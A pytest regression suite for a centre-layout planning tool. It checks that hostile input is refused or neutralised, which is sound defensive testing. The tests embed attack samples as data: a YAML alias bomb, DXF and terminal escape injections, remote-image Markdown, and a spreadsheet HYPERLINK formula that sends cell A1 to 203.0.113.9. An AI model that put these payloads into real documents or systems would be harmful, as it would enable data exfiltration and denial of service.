"""Hostile and careless input (issue 11): one regression test per point of the issue, named after it.

The promise for every one: one clear message naming the file, the field and the problem; exit 2; no
traceback; the input never modified; bounded time. Commands that froze or blocked on the old code
run in a subprocess with a timeout, so a regression fails instead of hanging the suite.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import ezdxf
import pytest

from centreplan.layouts.io import load_layout, loads
from centreplan.planner.cli import main
from centreplan.planner.errors import LayoutError, UnitError
from centreplan.planner.units import length_m

ROOT = Path(__file__).resolve().parents[2]

BASE = """\
format: centreplan/1
centre: {{name: {name}, climate: hot, phase: stabilised{extra}}}
population: {{men: 4, staff: 1}}
rooms:
  - {{id: C, use: corridor, height: 2.8, polygon: [[0, 0], [10, 0], [10, 2], [0, 2]]}}
  - {{id: D1, name: {room}, use: dormitory, group: men, beds: {beds}, height: {height}, lockable: true,
     polygon: {polygon}, windows: [{{width: 1.2, height: 1.0}}]}}
doors:
  - {{id: d1, between: [D1, C], width: 0.9}}
  - {{id: e1, between: [C, outside], width: 1.4, at: [0, 1]}}
"""


def layout(name: str = "Centre", room: str = "Dortoir", beds: object = 4, height: object = 2.8,
           polygon: str = "[[0, 2], [5, 2], [5, 6], [0, 6]]", extra: str = "") -> str:
    return BASE.format(name=json.dumps(name), room=json.dumps(room), beds=beds, height=height,
                       polygon=polygon, extra=extra)


def write(tmp_path: Path, text: str, name: str = "centre.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def cli(*args: str, timeout: float = 60) -> subprocess.CompletedProcess:
    """``centreplan ARGS`` in a fresh process, killed after ``timeout`` seconds (a freeze fails the test)."""
    return subprocess.run([sys.executable, "-m", "centreplan.planner.cli", *args], capture_output=True, text=True,
                          timeout=timeout, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})


def refused(result: subprocess.CompletedProcess, *words: str) -> str:
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr and "unexpected error" not in result.stderr, result.stderr
    for w in words:
        assert w in result.stderr, (w, result.stderr)
    return result.stderr


# ---- 1. numbers silently misread ----------------------------------------------------------------

@pytest.mark.parametrize("text, metres", [("2,8 m", 2.8), ("2,80 m", 2.8), ("2,2 m", 2.2), ("2,8", 2.8),
                                          ("280 cm", 2.8), ("2.8m", 2.8), ("0,9", 0.9), ("2,75 m", 2.75)])
def test_numbers_silently_misread_decimal_commas_are_decimals(text, metres):
    assert length_m(text, "rooms[1].height") == pytest.approx(metres)


@pytest.mark.parametrize("text, why", [("2 8 m", "ambiguous"), ("9'", "feet and inch"), ('110"', "feet and inch"),
                                       ("1,234 m", "ambiguous"), ("1 234 m", "ambiguous"),
                                       ("1.234,5 m", "ambiguous"), ("2,8,1 m", "ambiguous")])
def test_numbers_silently_misread_ambiguous_forms_are_refused(text, why):
    with pytest.raises(UnitError) as e:
        length_m(text, "rooms[1].height")
    assert str(e.value).startswith("rooms[1].height: ") and why in str(e.value)


def test_numbers_silently_misread_our_own_french_output_reads_back():
    # planner.numbers writes "1 234,5 m²" with U+202F between thousands and U+00A0 before the unit
    assert length_m("2,40\u00a0m") == pytest.approx(2.4)
    assert length_m("1\u202f234,5\u00a0m") == pytest.approx(1234.5)


def test_numbers_silently_misread_in_a_file(tmp_path, capsys):
    # 2,2 m is a ceiling below every rule's minimum: it must stay 2.2 m (not 22 m) so the check fails
    centre = load_layout(write(tmp_path, layout(height='"2,2 m"')))
    assert centre.rooms[1].height == pytest.approx(2.2)
    path = write(tmp_path, layout(height='"2 8 m"'), "ambiguous.yaml")
    assert main(["validate", str(path)]) == 2
    err = capsys.readouterr().err
    assert f"{path}: rooms[1].height: '2 8 m' is ambiguous" in err


def test_numbers_silently_misread_through_the_dxf_importer(tmp_path):
    # the importer hands XDATA numbers it cannot read as plain floats to the model, so they go
    # through the same grammar: a comma is a decimal, an ambiguous form is refused
    from centreplan.layouts.dxf.openings import number_or_text as _number_or_text
    from centreplan.planner.model import Room

    room = Room(id="R", use="office", polygon=[(0, 0), (3, 0), (3, 3)], height=_number_or_text("2,8"))
    assert room.height == pytest.approx(2.8)
    with pytest.raises(ValueError, match="ambiguous"):
        Room(id="R", use="office", polygon=[(0, 0), (3, 0), (3, 3)], height=_number_or_text("2 8"))


# ---- 2. a one-line file freezes everything ----------------------------------------------------------

@pytest.mark.parametrize("text", ["9**9**9 m", "10**400 m", "9**9**9", "2*3 m", "(1+1) m", "1e400 m", "1e999",
                                  "__import__('os') m", "m", "2 m**99999999"])
def test_a_one_line_file_freezes_everything_expressions_are_not_evaluated(text):
    with pytest.raises(UnitError) as e:
        length_m(text, "rooms[1].height")
    assert str(e.value).startswith("rooms[1].height: ")


def test_a_one_line_file_freezes_everything_from_the_command_line(tmp_path):
    path = write(tmp_path, layout(height='"9**9**9 m"'))
    before = path.read_bytes()
    refused(cli("validate", str(path), timeout=60), str(path), "rooms[1].height")
    path = write(tmp_path, layout(height='"10**400 m"'), "overflow.yaml")
    refused(cli("check", str(path), timeout=60), "rooms[1].height")
    assert (tmp_path / "centre.yaml").read_bytes() == before


def test_parse_quantity_grammar():
    from centreplan.planner.units import parse_quantity, ureg

    assert parse_quantity("15 L/person/day") == (15.0, ureg.Unit("L/person/day"))
    assert parse_quantity("12,5 m²") == (12.5, ureg.Unit("m**2")) == parse_quantity("12.5 m2")
    assert parse_quantity("3") == (3.0, None)
    assert parse_quantity("2 kWh / m^2 / day") == (2.0, ureg.Unit("kWh/m**2/day"))
    assert parse_quantity("40 °C")[1] == ureg.Unit("degC") and parse_quantity("50 %")[1] == ureg.Unit("percent")


# ---- 3. YAML alias amplification --------------------------------------------------------------------

LAUGHS = "format: centreplan/1\na: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
    f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(8)
) + "centre: *i\n"


def test_yaml_alias_amplification_is_refused_quickly(tmp_path):
    assert len(LAUGHS) < 1000  # a small file whose aliases expand to 9^9 = 387 million values
    path = write(tmp_path, LAUGHS)
    err = refused(cli("validate", str(path), timeout=60), str(path), "values")
    assert len(err) < 1000  # the message quotes no expanded structure


def test_yaml_alias_amplification_of_rooms(tmp_path):
    room = "{id: R, use: office, polygon: [[0, 0], [1, 0], [1, 1]]}"
    text = (f"format: centreplan/1\ncentre: {{name: x}}\nr0: &r0 [{room}, {room}]\n"
            + "".join(f"r{i + 1}: &r{i + 1} [*r{i}, *r{i}, *r{i}, *r{i}]\n" for i in range(12))
            + "rooms: *r12\n")
    with pytest.raises(LayoutError, match="more than"):
        loads(text, "amplified.yaml")


def test_yaml_alias_loop_is_refused():
    with pytest.raises(LayoutError, match="loop|nested"):
        loads("format: centreplan/1\ncentre: &c {name: x, notes: [*c]}\n", "loop.yaml")


def test_deep_nesting_is_refused_not_a_recursion_error():
    for text, name in (("[" * 100_000 + "]" * 100_000, "deep.json"), ("a: " + "[" * 5000 + "]" * 5000, "deep.yaml")):
        with pytest.raises(LayoutError, match="nested|YAML|JSON"):
            loads(text, name)


# ---- 4. DXF injection and raw terminal output -------------------------------------------------------

@pytest.mark.parametrize("name", ["Centre\n0\nEOF", "Centre\r\n999\nx", "Centre\x1b[2J\x1b[31mred", "a\x00b",
                                  "Centre\u202eevil"])
def test_dxf_injection_control_characters_are_refused_on_load(tmp_path, name):
    path = write(tmp_path, layout(name=name))
    with pytest.raises(LayoutError) as e:
        load_layout(path)
    assert "centre.name" in str(e.value) and ("control character" in str(e.value) or "line break" in str(e.value))
    assert "\x1b" not in str(e.value) and "\n0\nEOF" not in str(e.value)


def test_dxf_injection_writer_keeps_texts_on_one_line(tmp_path):
    # a centre built in code (not from a file) with line breaks in its texts still gives a valid DXF
    from centreplan.exports.dxf import dxf_bytes

    centre = loads(layout(), "c.yaml")
    evil = "Centre\n0\nEOF\n"
    info = centre.centre.model_copy(update={"name": evil, "location": "Thiès\r\n0\nSECTION"})
    rooms = [centre.rooms[0], centre.rooms[1].model_copy(update={"name": "Dortoir\n0\nEOF"})]
    centre = centre.model_copy(update={"centre": info, "rooms": rooms})
    data = dxf_bytes(centre)
    doc = ezdxf.read(io.StringIO(data.decode("utf-8")))
    outlines = [e for e in doc.modelspace().query("LWPOLYLINE") if e.dxf.layer.startswith("A-ROOM-")]
    assert len(outlines) == 2
    # room tags and the title block are block attributes (model and paper space), notes are texts
    texts = " ".join([e.dxf.text for lay in doc.layouts for e in lay.query("TEXT MTEXT")]
                     + [a.dxf.text for lay in doc.layouts for i in lay.query("INSERT") for a in i.attribs])
    assert "Centre 0 EOF" in texts and "Dortoir 0 EOF" in texts
    assert doc.header.custom_vars.get("centreplan.name").strip() == "Centre 0 EOF"


def test_dxf_injection_terminal_output_escapes_control_sequences(tmp_path, capsys):
    path = tmp_path / "evil\x1b[2Jname.yaml"
    path.write_text(layout(), encoding="utf-8")
    assert main(["validate", str(path)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "evil\\x1b[2Jname.yaml" in out
    missing = tmp_path / "gone\x07\x1b]0;title\x07.yaml"
    assert main(["info", str(missing)]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "\\x1b]0;title" in err


# ---- 5. the app fetches remote URLs ------------------------------------------------------------------

def test_the_app_fetches_remote_urls_names_render_as_plain_text():
    from centreplan.planner.text_safety import markdown_plain

    shown = markdown_plain("![x](http://203.0.113.9/a.png) <img src=http://203.0.113.9/b.png> **b** `c`")
    assert re.search(r"(?<!\\)[!<>\[\]*`]", shown) is None  # every Markdown/HTML character escaped
    assert markdown_plain("12. x\n- y\n# z", lines=True) == "12\\. x  \n\\- y  \n\\# z"
    assert shown.replace("\\", "") == "![x](http://203.0.113.9/a.png) <img src=http://203.0.113.9/b.png> **b** `c`"
    assert markdown_plain("a\n```\nb", lines=True).count("```") == 0


def test_the_app_fetches_remote_urls_error_box_cannot_break_out(tmp_path):
    # an upload whose error message quotes Markdown is shown as text in the error box
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    bad = layout(room="```\n![x](http://203.0.113.9/a.png)").encode()
    at.file_uploader(key="upload").set_value(("![y](http:%2F%2F203.0.113.9%2Fb.png).yaml", bad, "application/x-yaml"))
    at.run()
    assert not at.exception
    shown = " ".join(e.value for e in at.error)
    assert "kept" in shown
    assert "203.0.113.9" in shown  # the message quotes the file name and the value …
    assert re.search(r"(?<!\\)!(?=\\?\[)|(?<!\\)`", shown) is None  # … with no live image or code fence
    assert at.session_state["project"].centre.centre.name != "Centre"  # the open centre is kept


# ---- 6. a confidential centre's location in exports --------------------------------------------------

def _all_export_text(paths: list[Path]) -> str:
    chunks = []
    for p in paths:
        chunks.append(p.name)
        data = p.read_bytes()
        if zipfile.is_zipfile(p):
            with zipfile.ZipFile(p) as z:
                chunks += [z.read(n).decode("utf-8", "replace") for n in z.namelist()]
        elif p.suffix == ".pdf":
            chunks.append(data.decode("latin-1"))  # the document information (title, subject) is plain
            if shutil.which("pdftotext"):  # the pages' text (fonts are embedded subsets: not greppable raw)
                chunks.append(subprocess.run(["pdftotext", "-enc", "UTF-8", str(p), "-"], capture_output=True,
                                             text=True, timeout=120).stdout)
        else:
            chunks.append(data.decode("utf-8", "replace"))
    return "\n".join(chunks)


def test_a_confidential_centres_location_is_in_no_export(tmp_path):
    from centreplan.exports import export_all

    secret = "Quartier Zeta, rue 12"
    centre = loads(layout(extra=f", confidential: true, location: {json.dumps(secret)}"), "c.yaml")
    for lang in ("en", "fr"):
        written = export_all(centre, tmp_path / lang, None, lang)
        assert {p.suffix for p in written} == {".dxf", ".pdf", ".xlsx", ".csv", ".json"}
        text = _all_export_text(written)
        assert "Quartier Zeta" not in text and "Zeta" not in text
    # the same centre, not confidential, does show its location somewhere (the test can see it)
    open_centre = centre.model_copy(update={"centre": centre.centre.model_copy(update={"confidential": False})})
    assert "Zeta" in _all_export_text(export_all(open_centre, tmp_path / "open", ["dxf"], "en"))
    if shutil.which("pdftotext"):
        assert "Zeta" in _all_export_text(export_all(open_centre, tmp_path / "open", ["pdf"], "en"))


# ---- 7. CSV formula injection ------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"x")'


def test_csv_formula_injection_is_neutralised(tmp_path):
    from centreplan.exports import export_all

    centre = loads(layout(name="@SUM(1+1)", room=FORMULA), "c.yaml")
    written = export_all(centre, tmp_path, ["csv", "xlsx"], "en")
    cells = []
    for p in written:
        if p.suffix == ".csv":
            cells += [c for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8-sig"))) for c in row]
    assert cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").replace(",", "").isdigit()]
    assert "'" + FORMULA in cells
    import openpyxl

    book = openpyxl.load_workbook(next(p for p in written if p.suffix == ".xlsx"))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    values = [c.value for c in cells if c.data_type != "f"]  # the workbook's own totals are formulas
    assert not [v for v in values if isinstance(v, str) and v.startswith(("=", "+", "@"))]
    # cell arithmetic only (references, the workbook's XOF_PER_EUR cell, SUM and ROUND), no text of the user
    arithmetic = re.compile(r"=[A-Z0-9_$:*+\-/(),.]*")
    assert all(arithmetic.fullmatch(c.value) and not set(re.findall(r"[A-Z]+(?=\()", c.value)) - {"SUM", "ROUND"}
               for c in cells if c.data_type == "f")
    assert "'" + FORMULA in values
    assert any(isinstance(v, (int, float)) and not isinstance(v, bool) for v in values)  # numbers stay numbers


def test_sheet_cell_rule():
    from centreplan.planner.text_safety import sheet_cell

    assert sheet_cell("=1+1") == "'=1+1" and sheet_cell("+33 6") == "'+33 6" and sheet_cell("@x") == "'@x"
    assert sheet_cell("\tx") == "'\tx" and sheet_cell("\rx") == "'\rx" and sheet_cell("-1+2") == "'-1+2"
    assert sheet_cell("-3") == "-3" and sheet_cell(-3) == -3 and sheet_cell(2.5) == 2.5 and sheet_cell(None) is None
    assert sheet_cell("Dortoir") == "Dortoir"


# ---- 8. some outlines crash the geometry ------------------------------------------------------------

SHAPES = {
    "spike": "[[0, 2], [5, 2], [5, 6], [5, 9], [5, 6], [0, 6]]",
    "keyhole": "[[0, 2], [5, 2], [5, 6], [2, 6], [2, 8], [2, 6], [0, 6]]",
    "line": "[[0, 2], [1, 3], [2, 4]]",
    "there and back": "[[0, 2], [5, 2], [0, 2], [5, 6]]",
    "bow tie": "[[0, 2], [5, 6], [5, 2], [0, 6]]",
    "collapsed": "[[0, 2], [0.0001, 2], [0.0001, 2.0001]]",
}


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_some_outlines_crash_the_geometry(tmp_path, shape):
    path = write(tmp_path, layout(polygon=SHAPES[shape]))
    before = path.read_bytes()
    for command in (["validate"], ["info"], ["check"], ["equip"], ["export", "--to", str(tmp_path / "out")]):
        argv = [command[0], str(path), *command[1:]]
        code = main(argv)
        assert code in (0, 1, 2), (command, code)
    result = cli("validate", str(path))
    refused(result, "rooms[1].polygon (D1)")
    assert path.read_bytes() == before


def test_some_outlines_crash_the_geometry_plan_is_polygonal():
    from centreplan.planner.geometry import build_plan

    centre = loads(layout(polygon=SHAPES["keyhole"]), "c.yaml")
    plan = build_plan(centre)
    assert plan.polygons["D1"].geom_type in ("Polygon", "MultiPolygon")
    assert "self-intersection" in plan.invalid["D1"]
    centre = loads(layout(polygon=SHAPES["line"]), "c.yaml")
    plan = build_plan(centre)
    assert plan.area("D1") == 0 and plan.least_width("D1") == 0
    assert any("D1" in p.message for p in plan.problems())


# ---- 9. non-regular files ------------------------------------------------------------------------------

@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_non_regular_files_a_fifo_is_refused_at_once(tmp_path):
    fifo = tmp_path / "centre.yaml"
    os.mkfifo(fifo)
    refused(cli("validate", str(fifo), timeout=60), str(fifo), "not a regular file")


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_non_regular_files_dev_zero_is_refused_at_once():
    refused(cli("info", "/dev/zero", timeout=60), "/dev/zero", "not a regular file")


def test_non_regular_files_a_folder_is_refused(tmp_path):
    with pytest.raises(LayoutError, match="folder"):
        load_layout(tmp_path)


# ---- 11. smaller: duplicate keys, absurd magnitudes, 1 MB names ----------------------------------------

def test_duplicate_keys_in_yaml_are_refused(tmp_path):
    text = layout().replace("population: {men: 4, staff: 1}", "population: {men: 4, men: 40, staff: 1}")
    with pytest.raises(LayoutError, match=r"line 3: the key 'men' is given twice"):
        loads(text, "dup.yaml")
    text = layout() + "rooms: []\n"
    with pytest.raises(LayoutError, match="'rooms' is given twice"):
        loads(text, "dup.yaml")


def test_duplicate_keys_in_json_are_refused():
    with pytest.raises(LayoutError, match="'name' is given twice"):
        loads('{"format": "centreplan/1", "centre": {"name": "a", "name": "b"}}', "dup.json")


def test_yaml_merge_keys_still_work():
    # a merge key may override what it merges: that is not a key given twice
    text = ("format: centreplan/1\ncentre: {name: x}\nrooms:\n"
            "  - &r {id: A, use: office, height: 2.8, polygon: [[0, 0], [3, 0], [3, 3]]}\n"
            "  - {<<: *r, id: B, polygon: [[3, 0], [6, 0], [6, 3]]}\n")
    centre = loads(text, "merge.yaml")
    assert [r.id for r in centre.rooms] == ["A", "B"] and centre.rooms[1].height == 2.8


@pytest.mark.parametrize("beds, words", [("1000000000000000", "beds"), ("1e15", "beds"), ("-1", "beds")])
def test_absurd_magnitudes_beds_are_refused(beds, words):
    with pytest.raises(LayoutError) as e:
        loads(layout(beds=beds), "c.yaml")
    assert "rooms[1].beds" in str(e.value)


@pytest.mark.parametrize("polygon", ["[[0, 2], [1e308, 2], [5, 6]]", "[[0, 2], [5, 2], [5, 1.7976931348623157e308]]",
                                     "[[0, 2], [5, 2], [5, " + "9" * 400 + "]]", "[[0, 2], [5, 2], [5, -3e7]]"])
def test_absurd_magnitudes_coordinates_are_refused(polygon):
    with pytest.raises(LayoutError) as e:
        loads(layout(polygon=polygon), "c.yaml")
    assert "rooms[1].polygon" in str(e.value) and "at most 2e+07 m" in str(e.value)


def test_absurd_magnitudes_heights_and_population_are_refused():
    with pytest.raises(LayoutError, match=r"rooms\[1\].height: must be at most 100 m, got 1e\+15 m"):
        loads(layout(height="1e15"), "c.yaml")
    with pytest.raises(LayoutError, match=r"population.men"):
        loads(layout().replace("men: 4,", "men: 10000000000,"), "c.yaml")


def test_a_one_megabyte_name_is_refused_quickly(tmp_path):
    big = "x" * 1_000_000
    path = write(tmp_path, layout(room=big))
    err = refused(cli("export", str(path), "--to", str(tmp_path / "out"), timeout=60), "rooms[1].name",
                  "too long: 1,000,000 characters, at most 200")
    assert len(err) < 2000
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())


def test_many_problems_give_a_short_message():
    rooms = "".join(f"  - {{id: R{i}, use: nope, polygon: [[0, 0], [1, 0], [1, 1]]}}\n" for i in range(5000))
    with pytest.raises(LayoutError) as e:
        loads(f"format: centreplan/1\ncentre: {{name: x}}\nrooms:\n{rooms}", "many.yaml")
    assert len(e.value.problems) == 5000 and "and 4980 more" in str(e.value) and len(str(e.value)) < 10_000


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_non_regular_files_the_dxf_import_refuses_a_fifo(tmp_path):
    fifo = tmp_path / "plan.dxf"
    os.mkfifo(fifo)
    refused(cli("import", str(fifo), "-o", str(tmp_path / "out.yaml"), timeout=60), "not a regular file")
    assert not (tmp_path / "out.yaml").exists()
